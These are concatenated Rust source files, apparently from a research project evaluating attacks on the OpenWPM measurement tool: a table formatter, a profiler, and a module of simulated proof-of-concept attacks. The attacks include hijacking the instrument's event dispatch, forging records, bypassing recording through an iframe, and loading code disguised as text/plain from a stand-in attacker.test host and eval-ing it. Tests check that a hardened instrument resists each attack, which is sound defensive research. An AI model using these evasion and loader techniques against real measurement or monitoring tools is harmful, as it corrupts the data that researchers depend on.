        self.header = cols.iter().map(|s| s.to_string()).collect();
        self
    }

    pub fn row(&mut self, cols: &[String]) -> &mut Self {
        self.rows.push(cols.to_vec());
        self
    }

    pub fn row_str(&mut self, cols: &[&str]) -> &mut Self {
        self.rows.push(cols.iter().map(|s| s.to_string()).collect());
        self
    }

    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }

    pub fn render(&self) -> String {
        let ncols = self.header.len().max(self.rows.iter().map(Vec::len).max().unwrap_or(0));
        let mut widths = vec![0usize; ncols];
        for (i, h) in self.header.iter().enumerate() {
            widths[i] = widths[i].max(h.chars().count());
        }
        for row in &self.rows {
            for (i, c) in row.iter().enumerate() {
                widths[i] = widths[i].max(c.chars().count());
            }
        }
        let mut out = String::new();
        out.push_str(&format!("== {} ==\n", self.title));
        let fmt_row = |cols: &[String], widths: &[usize]| -> String {
            let mut line = String::new();
            for (i, c) in cols.iter().enumerate() {
                let pad = widths[i].saturating_sub(c.chars().count());
                line.push_str(c);
                line.push_str(&" ".repeat(pad + 2));
            }
            line.trim_end().to_string() + "\n"
        };
        if !self.header.is_empty() {
            out.push_str(&fmt_row(&self.header, &widths));
            out.push_str(&format!("{}\n", "-".repeat(widths.iter().sum::<usize>() + 2 * ncols)));
        }
        for row in &self.rows {
            out.push_str(&fmt_row(row, &widths));
        }
        out
    }
}

/// The coverage footnote printed under every scan-derived table: every count
/// in the paper's tables is implicitly "out of the sites the crawl actually
/// completed", so the denominator travels with the table.
pub fn coverage_note(summary: &openwpm::CrawlSummary) -> String {
    format!("[{}]", summary.coverage_line())
}

/// Format a count with thousands separators (paper style: `13,989`).
pub fn thousands(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// Percentage with one decimal (`13.99%`→ two decimals variant available).
pub fn pct(part: u64, total: u64) -> String {
    if total == 0 {
        "0.0%".into()
    } else {
        format!("{:.1}%", part as f64 * 100.0 / total as f64)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_aligned_table() {
        let mut t = TextTable::new("Demo");
        t.header(&["name", "count"]);
        t.row_str(&["alpha", "1"]);
        t.row_str(&["bb", "12345"]);
        let out = t.render();
        assert!(out.contains("== Demo =="));
        assert!(out.contains("alpha"));
        let lines: Vec<&str> = out.lines().collect();
        // Columns align: "count" and "12345" start at the same offset.
        let hpos = lines[1].find("count").unwrap();
        let rpos = lines[4].find("12345").unwrap();
        assert_eq!(hpos, rpos);
    }

    #[test]
    fn thousands_formatting() {
        assert_eq!(thousands(0), "0");
        assert_eq!(thousands(999), "999");
        assert_eq!(thousands(13989), "13,989");
        assert_eq!(thousands(1535306), "1,535,306");
    }

    #[test]
    fn pct_formatting() {
        assert_eq!(pct(13989, 100000), "14.0%");
        assert_eq!(pct(0, 0), "0.0%");
    }

    #[test]
    fn coverage_note_wraps_summary_line() {
        let summary = openwpm::CrawlSummary {
            total: 100,
            completed: 97,
            ..openwpm::CrawlSummary::default()
        };
        let note = coverage_note(&summary);
        assert!(note.starts_with('[') && note.ends_with(']'));
        assert!(note.contains("97/100"));
    }
}
