//! Proof-of-concept attacks against OpenWPM's data recording (paper Sec. 5)
//! and their evaluation against both instrument flavours (Sec. 6.2).
//!
//! Each attack returns a structured outcome so tests and the experiment
//! binaries can assert *who wins*: the attack must succeed against the
//! vanilla instrument and fail against WPM_hide.

use std::cell::RefCell;
use std::rc::Rc;

use browser::{CspPolicy, FingerprintProfile, Os, Page, RunMode};
use detect::corpus;
use netsim::Url;
use openwpm::instrument::{stealth, vanilla, StoreHandle};
use openwpm::{RecordStore, StealthSettings};

/// Which instrument the attack runs against.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Target {
    Vanilla,
    Stealth,
}

fn setup(target: Target, csp: Option<CspPolicy>) -> (Page, StoreHandle, bool) {
    let mut page = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
        Url::parse("https://victim.test/").unwrap(),
        csp,
    );
    let store: StoreHandle = Rc::new(RefCell::new(RecordStore::new()));
    let installed = match target {
        Target::Vanilla => {
            vanilla::install(&mut page, 99, store.clone(), "https://victim.test/".into())
        }
        Target::Stealth => {
            stealth::install(
                &mut page,
                &StealthSettings::default(),
                store.clone(),
                "https://victim.test/".into(),
            );
            true
        }
    };
    (page, store, installed)
}

/// Outcome of the dispatcher-hijack ("turn recording off", Listing 2).
#[derive(Clone, Debug)]
pub struct RecordingOffOutcome {
    /// Accesses recorded *after* the attack armed (should be > 0 only when
    /// the attack failed).
    pub recorded_after_attack: usize,
    /// Did the attacker learn the instrument's event id?
    pub id_grabbed: bool,
}

impl RecordingOffOutcome {
    pub fn attack_succeeded(&self) -> bool {
        self.recorded_after_attack == 0
    }
}

/// RQ5 (Sec. 5.1.1): disrupt the instrument's messaging by shadowing
/// `document.dispatchEvent`.
pub fn recording_off(target: Target) -> RecordingOffOutcome {
    let (mut page, store, _installed) = setup(target, None);
    page.run_script((corpus::dispatcher_hijack_attack(), "https://victim.test/attack.js"))
        .expect("attack script runs");
    let id_grabbed = page
        .run_script(("window.__owpmBlockedId !== null && window.__owpmBlockedId !== undefined", "p"))
        .map(|v| v.truthy())
        .unwrap_or(false);
    let before = store.borrow().js_calls.len();
    // Probe monitored APIs after the hijack armed.
    page.run_script((
        "navigator.userAgent; screen.width; document.createElement('div');",
        "https://victim.test/later.js",
    ))
    .unwrap();
    let after = store.borrow().js_calls.len();
    RecordingOffOutcome { recorded_after_attack: after - before, id_grabbed }
}

/// Outcome of the CSP-blocking attack (Sec. 5.1.2).
#[derive(Clone, Debug)]
pub struct CspBlockOutcome {
    pub instrumentation_installed: bool,
    pub csp_violations: u32,
    pub accesses_recorded: usize,
}

/// RQ5 (Sec. 5.1.2): a strict `script-src` CSP blocks DOM-injected
/// instrumentation.
pub fn csp_block(target: Target) -> CspBlockOutcome {
    let (mut page, store, installed) = setup(target, Some(CspPolicy::strict("/csp-report")));
    page.run_script(("navigator.userAgent;", "https://victim.test/app.js")).unwrap();
    let csp_violations = page.host.borrow().csp_violations;
    let accesses_recorded = store.borrow().js_calls.len();
    CspBlockOutcome { instrumentation_installed: installed, csp_violations, accesses_recorded }
}

/// Outcome of the fake-data injection (Sec. 5.2).
#[derive(Clone, Debug)]
pub struct FakeDataOutcome {
    /// Forged records that landed in the store.
    pub forged_records: usize,
    /// Whether the forged record's spoofed script attribution survived.
    pub spoofed_script_url: bool,
    /// Whether `page_url` (set host-side) resisted spoofing.
    pub page_url_intact: bool,
}

/// RQ6: inject fabricated records through the grabbed event id.
pub fn fake_data_injection(target: Target) -> FakeDataOutcome {
    let (mut page, store, _) = setup(target, None);
    page.run_script((
        corpus::fake_data_injection_attack("https://innocent.example/app.js"),
        "https://victim.test/attack.js",
    ))
    .unwrap();
    let store = store.borrow();
    let forged: Vec<_> = store
        .js_calls
        .iter()
        .filter(|r| r.symbol == "window.navigator.injectedFakeSymbol")
        .collect();
    FakeDataOutcome {
        forged_records: forged.len(),
        spoofed_script_url: forged
            .iter()
            .any(|r| r.script_url.contains("innocent.example")),
        page_url_intact: forged.iter().all(|r| r.page_url == "https://victim.test/"),
    }
}

/// Outcome of the iframe bypass (Listing 3, Sec. 5.4.1).
#[derive(Clone, Debug)]
pub struct IframeBypassOutcome {
    /// Was the in-frame `navigator.userAgent` access recorded?
    pub frame_access_recorded: bool,
    /// Same access performed later (after injection jobs ran) — recorded?
    pub delayed_access_recorded: bool,
}

/// RQ8 (Sec. 5.4.1): immediate access through a fresh iframe beats the
/// vanilla instrument's scheduled injection; delayed access does not.
pub fn iframe_bypass(target: Target) -> IframeBypassOutcome {
    let (mut page, store, _) = setup(target, None);
    // Immediate access at creation time (the exploitable variant).
    page.run_script((
        r#"
        var f1 = document.createElement('iframe');
        document.body.appendChild(f1);
        f1.contentWindow.navigator.userAgent;
        "#,
        "https://victim.test/immediate.js",
    ))
    .unwrap();
    let immediate_recorded = store
        .borrow()
        .js_calls
        .iter()
        .any(|r| r.symbol.ends_with(".userAgent") && r.script_url.contains("immediate"));
    // Delayed access: create the frame, let the event loop run, then access.
    page.run_script((
        r#"
        var f2 = document.createElement('iframe');
        document.body.appendChild(f2);
        setTimeout(function () { f2.contentWindow.navigator.userAgent; }, 100);
        "#,
        "https://victim.test/delayed.js",
    ))
    .unwrap();
    page.advance(1000);
    let delayed_recorded = store
        .borrow()
        .js_calls
        .iter()
        .any(|r| r.symbol.ends_with(".userAgent") && r.script_url.contains("delayed"));
    IframeBypassOutcome {
        frame_access_recorded: immediate_recorded,
        delayed_access_recorded: delayed_recorded,
    }
}

/// Outcome of the silent-delivery attack (Listing 4, Sec. 5.4.2).
#[derive(Clone, Debug)]
pub struct SilentDeliveryOutcome {
    /// The smuggled payload executed.
    pub payload_executed: bool,
    /// The payload body appears in the saved-scripts table.
    pub payload_saved_as_script: bool,
    /// The payload body appears in full response bodies (Full mode).
    pub payload_in_full_bodies: bool,
}

/// RQ8 (Sec. 5.4.2): deliver JavaScript as `text/plain` and `eval` it; the
/// JS-only HTTP filter misses it, full-body recording does not.
pub fn silent_delivery() -> SilentDeliveryOutcome {
    use openwpm::instrument::http;
    use openwpm::HttpSaveMode;
    let (mut page, _store, _) = setup(Target::Vanilla, None);
    page.add_server_resource(
        "https://attacker.test/cheat",
        "text/plain",
        "window.cheatRan = true;",
    );
    page.run_script((
        corpus::silent_delivery_loader("https://attacker.test/cheat"),
        "https://victim.test/loader.js",
    ))
    .unwrap();
    let executed = page
        .run_script(("window.cheatRan === true", "probe"))
        .map(|v| v.truthy())
        .unwrap_or(false);
    // Feed the response through both HTTP-instrument modes.
    let resp = netsim::HttpResponse {
        url: Url::parse("https://attacker.test/cheat").unwrap(),
        status: 200,
        content_type: "text/plain".into(),
        body: "window.cheatRan = true;".into(),
    };
    let mut filtered = RecordStore::new();
    http::record_response(&mut filtered, &resp, HttpSaveMode::JavascriptOnly, "p");
    let mut full = RecordStore::new();
    http::record_response(&mut full, &resp, HttpSaveMode::Full, "p");
    SilentDeliveryOutcome {
        payload_executed: executed,
        payload_saved_as_script: !filtered.saved_scripts.is_empty(),
        payload_in_full_bodies: !full.http_responses.is_empty(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn recording_off_beats_vanilla_not_stealth() {
        let v = recording_off(Target::Vanilla);
        assert!(v.id_grabbed, "attacker must learn the event id from vanilla");
        assert!(v.attack_succeeded(), "recorded {} after attack", v.recorded_after_attack);
        let s = recording_off(Target::Stealth);
        assert!(!s.id_grabbed, "stealth leaks no event id");
        assert!(!s.attack_succeeded(), "stealth keeps recording");
        assert!(s.recorded_after_attack >= 3);
    }

    #[test]
    fn csp_blocks_vanilla_not_stealth() {
        let v = csp_block(Target::Vanilla);
        assert!(!v.instrumentation_installed);
        assert!(v.csp_violations > 0);
        assert_eq!(v.accesses_recorded, 0);
        let s = csp_block(Target::Stealth);
        assert!(s.instrumentation_installed);
        assert_eq!(s.csp_violations, 0);
        assert!(s.accesses_recorded > 0);
    }

    #[test]
    fn fake_data_lands_in_vanilla_with_spoofed_script_but_not_page() {
        let v = fake_data_injection(Target::Vanilla);
        assert_eq!(v.forged_records, 1);
        assert!(v.spoofed_script_url, "script URL is attacker-controlled");
        assert!(v.page_url_intact, "page URL is set outside the browser (Sec. 5.2)");
        let s = fake_data_injection(Target::Stealth);
        assert_eq!(s.forged_records, 0, "stealth messaging accepts no page events");
    }

    #[test]
    fn iframe_bypass_beats_vanilla_only_for_immediate_access() {
        let v = iframe_bypass(Target::Vanilla);
        assert!(!v.frame_access_recorded, "immediate frame access must evade vanilla");
        assert!(v.delayed_access_recorded, "delayed access is caught once injection ran");
        let s = iframe_bypass(Target::Stealth);
        assert!(s.frame_access_recorded, "frame protection instruments synchronously");
        assert!(s.delayed_access_recorded);
    }

    #[test]
    fn silent_delivery_evades_filter_but_not_full_mode() {
        let o = silent_delivery();
        assert!(o.payload_executed);
        assert!(!o.payload_saved_as_script, "JS-only filter must miss the payload");
        assert!(o.payload_in_full_bodies, "full mode records everything (Sec. 6.2.3)");
    }
}
