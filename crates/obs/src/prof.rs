//! Phase-attributed pipeline profiler and slow-visit flight recorder.
//!
//! Two instruments, both invisible to the determinism contract:
//!
//! * **Phase profiler** — RAII guards ([`enter`]) attribute wall-clock time
//!   to a fixed tree of pipeline phases (webgen materialise → compile cache
//!   hit/miss → jsengine interp → detect static/dynamic → archive
//!   encode/flush, rooted at the scheduler's per-item `visit`). Every phase
//!   records a log-bucket histogram (`prof.<name>_us`) and a self-time
//!   counter (`prof.self.<name>`); in collapsed mode the per-thread stack
//!   path also accumulates into a flamegraph-style collapsed-stack map.
//!   All `prof.*` metrics carry a [`NONDETERMINISTIC_PREFIXES`] prefix, so
//!   they render in `[stats]` but never reach the telemetry digest or the
//!   streaming checkpoint metric deltas — profiling on vs off is
//!   byte-identical where it matters.
//! * **Flight recorder** — a per-worker ring buffer of recent events (every
//!   `obs::emit`, phase transitions, and explicit breadcrumbs). Slow
//!   visits, typed visit failures, panics, and chaos kills dump the ring
//!   plus the in-flight phase stack as flat JSONL forensic records to a
//!   side file (see [`set_forensic_path`]); `validate::validate_forensic`
//!   checks the schema. The ring is thread-local — recording takes no lock;
//!   only the rare dump serialises on the sink.
//!
//! [`NONDETERMINISTIC_PREFIXES`]: crate::NONDETERMINISTIC_PREFIXES

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::fs::{File, OpenOptions};
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Mutex, OnceLock};
use std::time::Instant;

use crate::event::{push_json_string, AttrVal, Event};

// ------------------------------------------------------------------ phases

/// One node of the fixed phase tree: the display name plus the interned
/// metric names its guard records into (kept `'static` so the hot-path
/// counter/histogram handle caches apply).
pub struct PhaseDef {
    pub name: &'static str,
    hist_us: &'static str,
    self_ctr: &'static str,
}

impl PhaseDef {
    /// Name of the per-phase total-time histogram (`prof.<name>_us`).
    pub fn hist_name(&self) -> &'static str {
        self.hist_us
    }

    /// Name of the self-time counter (`prof.self.<name>`).
    pub fn self_counter(&self) -> &'static str {
        self.self_ctr
    }
}

macro_rules! phase_def {
    ($ident:ident, $name:literal, $hist:literal, $self_ctr:literal) => {
        pub static $ident: PhaseDef =
            PhaseDef { name: $name, hist_us: $hist, self_ctr: $self_ctr };
    };
}

phase_def!(VISIT, "visit", "prof.visit_us", "prof.self.visit");
phase_def!(
    WEBGEN_MATERIALISE,
    "webgen.materialise",
    "prof.webgen.materialise_us",
    "prof.self.webgen.materialise"
);
phase_def!(COMPILE_HIT, "compile.hit", "prof.compile.hit_us", "prof.self.compile.hit");
phase_def!(COMPILE_MISS, "compile.miss", "prof.compile.miss_us", "prof.self.compile.miss");
phase_def!(JS_INTERP, "jsengine.interp", "prof.jsengine.interp_us", "prof.self.jsengine.interp");
phase_def!(
    JS_COMPILE_BC,
    "jsengine.compile_bc",
    "prof.jsengine.compile_bc_us",
    "prof.self.jsengine.compile_bc"
);
phase_def!(JS_VM, "jsengine.vm", "prof.jsengine.vm_us", "prof.self.jsengine.vm");
phase_def!(DETECT_STATIC, "detect.static", "prof.detect.static_us", "prof.self.detect.static");
phase_def!(
    DETECT_STATIC_BUILD,
    "detect.static.build",
    "prof.detect.static.build_us",
    "prof.self.detect.static.build"
);
phase_def!(
    DETECT_STATIC_SCAN,
    "detect.static.scan",
    "prof.detect.static.scan_us",
    "prof.self.detect.static.scan"
);
phase_def!(DETECT_DYNAMIC, "detect.dynamic", "prof.detect.dynamic_us", "prof.self.detect.dynamic");
phase_def!(ARCHIVE_ENCODE, "archive.encode", "prof.archive.encode_us", "prof.self.archive.encode");
phase_def!(ARCHIVE_FLUSH, "archive.flush", "prof.archive.flush_us", "prof.self.archive.flush");
phase_def!(SCHED_IDLE, "sched.idle", "prof.sched.idle_us", "prof.self.sched.idle");
phase_def!(SCHED_STEAL, "sched.steal", "prof.sched.steal_us", "prof.self.sched.steal");

/// Every phase of the fixed tree, for report/stats iteration. `visit` is
/// the root; `sched.idle` / `sched.steal` run outside it on the worker
/// loop.
pub static PHASES: &[&PhaseDef] = &[
    &VISIT,
    &WEBGEN_MATERIALISE,
    &COMPILE_HIT,
    &COMPILE_MISS,
    &JS_INTERP,
    &JS_COMPILE_BC,
    &JS_VM,
    &DETECT_STATIC,
    &DETECT_STATIC_BUILD,
    &DETECT_STATIC_SCAN,
    &DETECT_DYNAMIC,
    &ARCHIVE_ENCODE,
    &ARCHIVE_FLUSH,
    &SCHED_IDLE,
    &SCHED_STEAL,
];

/// Phases nested under `visit` — the set whose self times (plus `visit`'s
/// own) partition a visit's wall clock.
pub static VISIT_PHASES: &[&PhaseDef] = &[
    &WEBGEN_MATERIALISE,
    &COMPILE_HIT,
    &COMPILE_MISS,
    &JS_INTERP,
    &JS_COMPILE_BC,
    &JS_VM,
    &DETECT_STATIC,
    &DETECT_STATIC_BUILD,
    &DETECT_STATIC_SCAN,
    &DETECT_DYNAMIC,
    &ARCHIVE_ENCODE,
    &ARCHIVE_FLUSH,
];

// ------------------------------------------------------------------- state

static PROF: AtomicBool = AtomicBool::new(false);
static COLLAPSED: AtomicBool = AtomicBool::new(false);
static SLOW_VISIT_US: AtomicU64 = AtomicU64::new(0);
static FORENSIC_ARMED: AtomicBool = AtomicBool::new(false);
static NEXT_DUMP_ID: AtomicU64 = AtomicU64::new(0);
static NEXT_WORKER_ID: AtomicU64 = AtomicU64::new(0);

/// Profiler operating mode (the `GULLIBLE_PROF` knob).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mode {
    Off,
    /// Per-phase histograms and self-time counters.
    On,
    /// `On` plus collapsed-stack (flamegraph text) accumulation.
    Collapsed,
}

/// Parse a `GULLIBLE_PROF` value: `collapsed` → [`Mode::Collapsed`], empty
/// / `0` / `off` → [`Mode::Off`], anything else → [`Mode::On`].
pub fn parse_mode(v: &str) -> Mode {
    match v.trim() {
        "collapsed" => Mode::Collapsed,
        "" | "0" | "off" => Mode::Off,
        _ => Mode::On,
    }
}

pub fn set_mode(mode: Mode) {
    PROF.store(mode != Mode::Off, Ordering::Relaxed);
    COLLAPSED.store(mode == Mode::Collapsed, Ordering::Relaxed);
}

/// The current operating mode.
pub fn mode() -> Mode {
    if COLLAPSED.load(Ordering::Relaxed) {
        Mode::Collapsed
    } else if PROF.load(Ordering::Relaxed) {
        Mode::On
    } else {
        Mode::Off
    }
}

/// Is the phase profiler armed? One relaxed load — the disabled-path check.
#[inline]
pub fn profiling() -> bool {
    PROF.load(Ordering::Relaxed)
}

/// Slow-visit threshold in wall-clock microseconds; 0 disables the check.
pub fn set_slow_visit_us(v: u64) {
    SLOW_VISIT_US.store(v, Ordering::Relaxed);
}

#[inline]
pub fn slow_visit_us() -> u64 {
    SLOW_VISIT_US.load(Ordering::Relaxed)
}

/// Clear all profiler/recorder configuration (called by [`crate::reset`]).
/// Dump ids stay monotone across resets so multi-run forensic files remain
/// unambiguous.
pub(crate) fn reset_prof() {
    set_mode(Mode::Off);
    SLOW_VISIT_US.store(0, Ordering::Relaxed);
    FORENSIC_ARMED.store(false, Ordering::Relaxed);
    *sink().lock().unwrap_or_else(|e| e.into_inner()) = None;
    collapsed_map().lock().unwrap_or_else(|e| e.into_inner()).clear();
}

// ----------------------------------------------------------- phase guards

struct Frame {
    def: &'static PhaseDef,
    start: Instant,
    /// Wall micros attributed to already-closed child phases.
    child_us: u64,
    /// `;`-joined stack path, materialised only in collapsed mode.
    path: Option<String>,
}

thread_local! {
    static STACK: RefCell<Vec<Frame>> = const { RefCell::new(Vec::new()) };
    static RING: RefCell<Ring> = const { RefCell::new(Ring::new()) };
    static WORKER_ID: std::cell::Cell<u64> = const { std::cell::Cell::new(u64::MAX) };
}

/// An open phase; attributes its wall time on drop. Inert (and free beyond
/// one atomic load) when the profiler is off.
pub struct ProfGuard {
    active: bool,
}

/// Enter `def` on this thread's phase stack.
pub fn enter(def: &'static PhaseDef) -> ProfGuard {
    if !profiling() {
        return ProfGuard { active: false };
    }
    let path = if COLLAPSED.load(Ordering::Relaxed) {
        Some(STACK.with(|s| match s.borrow().last().and_then(|f| f.path.as_deref()) {
            Some(parent) => format!("{parent};{}", def.name),
            None => def.name.to_string(),
        }))
    } else {
        None
    };
    if recorder_armed() {
        ring_push("phase", def.name.to_string());
    }
    STACK.with(|s| {
        s.borrow_mut().push(Frame { def, start: Instant::now(), child_us: 0, path })
    });
    ProfGuard { active: true }
}

impl Drop for ProfGuard {
    fn drop(&mut self) {
        if !self.active {
            return;
        }
        let Some(frame) = STACK.with(|s| s.borrow_mut().pop()) else {
            return;
        };
        let total_us = frame.start.elapsed().as_micros() as u64;
        let self_us = total_us.saturating_sub(frame.child_us);
        STACK.with(|s| {
            if let Some(parent) = s.borrow_mut().last_mut() {
                parent.child_us += total_us;
            }
        });
        crate::observe(frame.def.hist_us, total_us);
        crate::add(frame.def.self_ctr, self_us);
        if let Some(path) = frame.path {
            *collapsed_map()
                .lock()
                .unwrap_or_else(|e| e.into_inner())
                .entry(path)
                .or_insert(0) += self_us;
        }
    }
}

/// The current thread's in-flight phase path (`;`-joined, innermost last),
/// or `"none"` outside any phase.
pub fn current_phase() -> String {
    STACK.with(|s| {
        let stack = s.borrow();
        if stack.is_empty() {
            return "none".to_string();
        }
        let names: Vec<&str> = stack.iter().map(|f| f.def.name).collect();
        names.join(";")
    })
}

// ------------------------------------------------------- collapsed stacks

fn collapsed_map() -> &'static Mutex<BTreeMap<String, u64>> {
    static MAP: OnceLock<Mutex<BTreeMap<String, u64>>> = OnceLock::new();
    MAP.get_or_init(|| Mutex::new(BTreeMap::new()))
}

/// Fold per-builtin interpreter call counts in as leaf nodes under
/// `visit;jsengine.interp`. Leaf values are **call counts**, not micros —
/// natives execute without their own stack frames, so counts are the
/// finest attribution the engine offers (documented in the collapsed
/// header the bench prints).
pub fn fold_builtin_counts(builtins: &[(std::sync::Arc<str>, u64)]) {
    fold_builtin_counts_under("visit;jsengine.interp", builtins);
}

/// [`fold_builtin_counts`] with an explicit parent path, so hosts running
/// the bytecode backend can hang the identical `builtin.<name>` leaves
/// under `visit;jsengine.vm` instead. The `prof.builtin.*` counters are
/// engine-agnostic either way — both backends funnel native dispatch
/// through one shared builtins layer, so the counts line up exactly.
pub fn fold_builtin_counts_under(parent: &str, builtins: &[(std::sync::Arc<str>, u64)]) {
    if !profiling() || builtins.is_empty() {
        return;
    }
    let reg = crate::registry();
    for (name, count) in builtins {
        reg.counter_by_name(&format!("prof.builtin.{name}")).add(*count);
    }
    if COLLAPSED.load(Ordering::Relaxed) {
        let mut map = collapsed_map().lock().unwrap_or_else(|e| e.into_inner());
        for (name, count) in builtins {
            *map.entry(format!("{parent};builtin.{name}")).or_insert(0) += count;
        }
    }
}

/// Render the collapsed-stack map as flamegraph text: one
/// `path;to;phase value` line per entry, sorted by path.
pub fn render_collapsed() -> String {
    let map = collapsed_map().lock().unwrap_or_else(|e| e.into_inner());
    let mut out = String::new();
    for (path, v) in map.iter() {
        out.push_str(path);
        out.push(' ');
        out.push_str(&v.to_string());
        out.push('\n');
    }
    out
}

/// A single collapsed-stack value (tests and report code).
pub fn collapsed_value(path: &str) -> Option<u64> {
    collapsed_map().lock().unwrap_or_else(|e| e.into_inner()).get(path).copied()
}

// ------------------------------------------------------- flight recorder

/// Ring capacity per worker thread. Sized so a forensic dump carries
/// enough history to explain a failure without bloating dump files.
pub const RING_CAPACITY: usize = 128;

struct Ring {
    buf: Vec<(u64, &'static str, String)>,
    seq: u64,
    dropped: u64,
}

impl Ring {
    const fn new() -> Ring {
        Ring { buf: Vec::new(), seq: 0, dropped: 0 }
    }

    fn push(&mut self, kind: &'static str, detail: String) {
        let entry = (self.seq, kind, detail);
        if self.buf.len() < RING_CAPACITY {
            self.buf.push(entry);
        } else {
            // Overwrite the oldest slot; the counter — never the dump —
            // absorbs the loss.
            let idx = (self.seq % RING_CAPACITY as u64) as usize;
            self.buf[idx] = entry;
            self.dropped += 1;
        }
        self.seq += 1;
    }

    /// Entries oldest → newest.
    fn snapshot(&self) -> Vec<(u64, &'static str, String)> {
        let mut out = self.buf.clone();
        out.sort_by_key(|(seq, _, _)| *seq);
        out
    }
}

/// Is the flight recorder armed (forensic sink installed)? Callers should
/// gate any allocation for [`ring_record`] details on this.
#[inline]
pub fn recorder_armed() -> bool {
    FORENSIC_ARMED.load(Ordering::Relaxed)
}

/// Record a breadcrumb into this worker's ring. No-op (post-check) when
/// the recorder is unarmed — but gate the `detail` allocation on
/// [`recorder_armed`] at the call site.
pub fn ring_record(kind: &'static str, detail: String) {
    if recorder_armed() {
        ring_push(kind, detail);
    }
}

fn ring_push(kind: &'static str, detail: String) {
    RING.with(|r| r.borrow_mut().push(kind, detail));
}

/// Feed an emitted journal event into the ring (called by [`crate::emit`]
/// whether or not tracing is live).
pub(crate) fn ring_event(ev: &Event) {
    if !recorder_armed() {
        return;
    }
    let mut detail = String::new();
    for (i, (key, val)) in ev.attrs.iter().enumerate() {
        if i > 0 {
            detail.push(' ');
        }
        detail.push_str(key);
        detail.push('=');
        match val {
            AttrVal::U(v) => detail.push_str(&v.to_string()),
            AttrVal::I(v) => detail.push_str(&v.to_string()),
            AttrVal::S(s) => detail.push_str(s),
        }
    }
    ring_push(ev.ev, detail);
}

fn worker_id() -> u64 {
    WORKER_ID.with(|w| {
        if w.get() == u64::MAX {
            w.set(NEXT_WORKER_ID.fetch_add(1, Ordering::Relaxed));
        }
        w.get()
    })
}

fn wall_ms() -> u64 {
    static START: OnceLock<Instant> = OnceLock::new();
    START.get_or_init(Instant::now).elapsed().as_millis() as u64
}

// --------------------------------------------------------- forensic sink

fn sink() -> &'static Mutex<Option<(PathBuf, File)>> {
    static SINK: OnceLock<Mutex<Option<(PathBuf, File)>>> = OnceLock::new();
    SINK.get_or_init(|| Mutex::new(None))
}

/// Install (or remove, with `None`) the forensic dump sink. Installing a
/// sink arms the flight recorder and — because a dump without phase
/// attribution is blind — arms the phase profiler too if it was off.
/// Dumps append; pass a fresh path per run for per-run files.
pub fn set_forensic_path(path: Option<&Path>) -> std::io::Result<()> {
    let mut guard = sink().lock().unwrap_or_else(|e| e.into_inner());
    match path {
        Some(p) => {
            let file = OpenOptions::new().create(true).append(true).open(p)?;
            *guard = Some((p.to_path_buf(), file));
            FORENSIC_ARMED.store(true, Ordering::Relaxed);
            PROF.store(true, Ordering::Relaxed);
        }
        None => {
            *guard = None;
            FORENSIC_ARMED.store(false, Ordering::Relaxed);
        }
    }
    Ok(())
}

/// The installed forensic sink path, if any.
pub fn forensic_path() -> Option<PathBuf> {
    sink().lock().unwrap_or_else(|e| e.into_inner()).as_ref().map(|(p, _)| p.clone())
}

/// Dump this worker's flight-recorder state as one forensic record: a flat
/// `{"rec":"forensic",...}` header line naming the trigger and the
/// in-flight phase stack, followed by one `{"rec":"forensic_ring",...}`
/// line per buffered event (oldest first). Every line is flat JSON —
/// `validate::validate_forensic` checks the schema. Safe to call during a
/// panic unwind (the chaos injector dumps *before* it dies); a poisoned
/// sink lock is recovered, so a panic dump is never lost.
pub fn dump_forensic(trigger: &str, attrs: &[(&str, String)]) {
    if !recorder_armed() {
        return;
    }
    crate::add("prof.forensic.dumps", 1);
    let id = NEXT_DUMP_ID.fetch_add(1, Ordering::Relaxed) + 1;
    let phase = current_phase();
    let depth = STACK.with(|s| s.borrow().len());
    let (ring, dropped) = RING.with(|r| {
        let r = r.borrow();
        (r.snapshot(), r.dropped)
    });

    let mut out = String::with_capacity(256 + ring.len() * 96);
    {
        use std::fmt::Write as _;
        let _ = write!(
            out,
            "{{\"rec\":\"forensic\",\"id\":{id},\"wall_ms\":{},\"worker\":{},\"trigger\":",
            wall_ms(),
            worker_id(),
        );
        push_json_string(&mut out, trigger);
        out.push_str(",\"phase\":");
        push_json_string(&mut out, &phase);
        let _ = write!(out, ",\"depth\":{depth},\"dropped\":{dropped},\"ring_len\":{}", ring.len());
        for (key, val) in attrs {
            out.push(',');
            push_json_string(&mut out, key);
            out.push(':');
            push_json_string(&mut out, val);
        }
        out.push_str("}\n");
        for (seq, kind, detail) in &ring {
            let _ = write!(out, "{{\"rec\":\"forensic_ring\",\"id\":{id},\"seq\":{seq},\"kind\":");
            push_json_string(&mut out, kind);
            out.push_str(",\"detail\":");
            push_json_string(&mut out, detail);
            out.push_str("}\n");
        }
    }

    let mut guard = sink().lock().unwrap_or_else(|e| e.into_inner());
    if let Some((_, file)) = guard.as_mut() {
        let _ = file.write_all(out.as_bytes());
        let _ = file.flush();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::TEST_LOCK;

    fn locked() -> std::sync::MutexGuard<'static, ()> {
        TEST_LOCK.lock().unwrap_or_else(|e| e.into_inner())
    }

    fn tmp_file(name: &str) -> PathBuf {
        let p = std::env::temp_dir()
            .join(format!("gullible-prof-{name}-{}.jsonl", std::process::id()));
        let _ = std::fs::remove_file(&p);
        p
    }

    #[test]
    fn guards_are_inert_when_off() {
        let _g = locked();
        crate::reset();
        {
            let _p = enter(&VISIT);
            assert_eq!(current_phase(), "none");
        }
        assert!(crate::registry().snapshot().histograms.is_empty());
        crate::reset();
    }

    #[test]
    fn nested_phases_attribute_self_time_and_paths() {
        let _g = locked();
        crate::reset();
        crate::set_stats(true);
        set_mode(Mode::Collapsed);
        {
            let _v = enter(&VISIT);
            std::thread::sleep(std::time::Duration::from_millis(2));
            {
                let _j = enter(&JS_INTERP);
                assert_eq!(current_phase(), "visit;jsengine.interp");
